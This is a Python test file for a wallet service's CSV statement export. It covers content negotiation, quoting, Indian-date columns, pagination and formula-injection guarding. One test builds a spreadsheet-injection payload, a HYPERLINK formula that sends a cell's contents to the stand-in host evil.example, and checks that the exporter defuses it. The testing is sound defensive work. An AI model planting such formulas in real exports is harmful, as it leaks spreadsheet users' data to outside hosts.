"""CSV: the same page, for spreadsheets, with nothing in it that a spreadsheet would run."""

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from local.state import ROOT
from tests.unit.calls import CALLER, request
from wallet.edge import shapes
from wallet.edge.cells import guarded, unguarded
from wallet.edge.tables import statement_table, wants_csv
from wallet.ledger.statements import Holder, Outside, Span, StatementEntry, StatementPage, Stretch
from wallet.ledger.times import show_time
from wallet.ledger.transactions import Side

AT = datetime(2026, 11, 22, 6, 30, 0, 123_456, tzinfo=UTC)
SHOP = Holder(UUID(int=2), "Chai Point", "merchant")
ENTRY = StatementEntry(0, 3, CALLER, "payment", Side.DEBIT, 100, 400, SHOP, "tea, twice", 'bill "7"', AT)
PAGE = StatementPage((ENTRY,), None)


def table(page: StatementPage, query: dict[str, list[str]] | None = None) -> tuple[list[list[str]], dict[str, str]]:
    answer = statement_table(request(query=query or {}), page)
    assert isinstance(answer.body, str)
    assert answer.body[0] == "\ufeff", "Excel reads UTF-8 where it is told so"
    return list(csv.reader(io.StringIO(answer.body[1:], newline=""))), answer.headers


@pytest.mark.parametrize(
    ("accept", "csv_wanted"),
    [
        ("text/csv", True),
        ("Text/CSV; charset=utf-8", True),
        ("text/csv, */*;q=0.8", True),
        ("text/csv;q=0.9, application/json;q=0.8", True),
        ("application/json;q=0.85, text/csv;q=0.9", True),
        ("text/csv, application/json", False),
        ("application/json, text/csv;q=0.5", False),
        ("text/csv;q=0", False),
        ("text/csv;q=nan", False),
        ("text/csv;q=½", False),
        ("text/csv;q=-1", False),
        ("text/csv;q=", False),
        ("*/*", False),
        ("text/*", False),
        ("application/json", False),
        ("application/xml", False),
        ("", False),
        (",;=,;q=;", False),
    ],
)
def test_csv_is_for_who_names_it_and_likes_it_best(accept: str, csv_wanted: bool) -> None:  # noqa: FBT001 - a table
    assert wants_csv(request(headers={"accept": accept})) is csv_wanted


def test_without_a_wish_there_is_json() -> None:
    assert not wants_csv(request(headers={}))


@given(st.text(max_size=60))
def test_any_accept_header_is_read_or_passed_over(accept: str) -> None:
    assert wants_csv(request(headers={"accept": accept})) in (True, False)


def test_a_table_has_the_fields_of_the_json_and_a_header_line() -> None:
    [header, row], headers = table(PAGE)
    told = dict(zip(header, row, strict=True))
    as_json: dict[str, object] = {**shapes.statement_entry(ENTRY)}
    assert set(told) == set(as_json) | {"counterparty_wallet_id", "date_in_india"}
    assert told["counterparty"] == "Chai Point"
    assert told["counterparty_wallet_id"] == shapes.wallet_id(SHOP.wallet_id)
    for name in set(as_json) - {"counterparty"}:
        assert told[name] == ("" if as_json[name] is None else str(as_json[name]))
    assert headers == {"Content-Type": "text/csv; charset=utf-8"}


def test_lines_end_and_cells_are_quoted_as_rfc_4180_says() -> None:
    answer = statement_table(request(), PAGE)
    assert isinstance(answer.body, str)
    header, row, end = answer.body.split("\r\n")
    assert header.startswith('\ufeff"id","type",')
    assert end == ""
    assert '"tea, twice","bill ""7"""' in row
    assert ",100,400," in row
    assert "\n" not in header + row


@pytest.mark.parametrize("other", [Outside("vpa", "as***@okbank"), Outside("gateway", "razorpay")])
def test_who_is_no_wallet_has_a_name_and_no_wallets_id(other: Outside) -> None:
    [_, row], _ = table(StatementPage((replace(ENTRY, counterparty=other),), None))
    assert row[5:7] == [other.name, ""]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " =", "\u00a0@", "\uff1d", "\uff20"])
def test_what_would_be_a_formula_is_text(begin: str) -> None:
    evil = f'{begin}HYPERLINK("http://evil.example/?"&A1)'
    [_, row], _ = table(
        StatementPage((replace(ENTRY, description=evil, reference=evil, counterparty=replace(SHOP, name=evil)),), None)
    )
    assert row[7] == row[8] == row[5] == f"'{evil}"


@pytest.mark.parametrize(
    ("at", "day"),
    [
        (datetime(2026, 10, 31, 18, 29, 59, 999_999, tzinfo=UTC), "2026-10-31"),
        (datetime(2026, 10, 31, 18, 30, tzinfo=UTC), "2026-11-01"),
        (datetime(2026, 12, 31, 23, 0, tzinfo=UTC), "2027-01-01"),
    ],
)
def test_a_line_says_which_day_it_was_in_india(at: datetime, day: str) -> None:
    """So that an Indian month adds up, whose first five and a half hours are another's in UTC."""
    [header, row], _ = table(StatementPage((replace(ENTRY, created_at=at),), None))
    told = dict(zip(header, row, strict=True))
    assert (told["created_at"], told["date_in_india"]) == (show_time(at), day)


texts = st.one_of(st.text(max_size=20), st.text("'=+-@ \u00a0a1", max_size=8))


@given(texts)
def test_a_guard_is_taken_off_again_whatever_stood_behind_it(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(texts)
def test_no_cell_begins_a_formula(text: str) -> None:
    cell = guarded(text)
    assert not re.match(r"[ \u00a0]*[=+\-@\t\r\n]", cell) or re.fullmatch(r"\+[1-9][0-9]{6,14}", cell)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("'=1+1", "''=1+1"),
        ("''=1+1", "'" * 3 + "=1+1"),
        ("'tis", "'tis"),
        ("'", "'"),
        ("", ""),
        ("+919876543210", "+919876543210"),
        ("'+919876543210", "''+919876543210"),
        ("-5", "'-5"),
    ],
)
def test_what_looks_guarded_is_guarded_too(text: str, cell: str) -> None:
    assert guarded(text) == cell
    assert unguarded(cell) == text


def test_absent_text_is_an_empty_cell() -> None:
    [_, row], _ = table(StatementPage((replace(ENTRY, description=None, reference=None),), None))
    assert row[7:9] == ["", ""]


def test_an_empty_page_is_its_header_line() -> None:
    rows, headers = table(StatementPage((), None))
    assert len(rows) == 1
    assert "Link" not in headers


def test_a_link_leads_to_the_next_page_with_the_same_filters() -> None:
    rest = Span(SHOP.wallet_id, (Stretch(0, 0, 2), Stretch(1, 0, 7)), AT)
    query = {"limit": ["2"], "from": ["2026-11-01T00:00:00+05:30"], "cursor": ["e9.9"]}
    _, headers = table(replace(PAGE, rest=rest), query)
    assert headers["Link"] == '<?limit=2&from=2026-11-01T00%3A00%3A00%2B05%3A30&cursor=e2.7>; rel="next"'


def test_the_wallet_in_the_browser_has_the_same_columns_with_amounts_in_rupees() -> None:
    """Its table is made there, page by page; what somebody made of one of the two fits the other."""
    source = (ROOT / "web" / "src" / "table.ts").read_text()
    listed = re.search(r"^const COLUMNS = \[([^\]]*)\];$", source, re.MULTILINE)
    assert listed is not None
    theirs = re.findall(r'"([a-z_]+)"', listed[1])
    (ours,), _ = table(StatementPage((), None))
    in_rupees = {"amount": "amount_rupees", "balance_after": "balance_after_rupees"}
    assert theirs == [in_rupees.get(name, name) for name in ours]
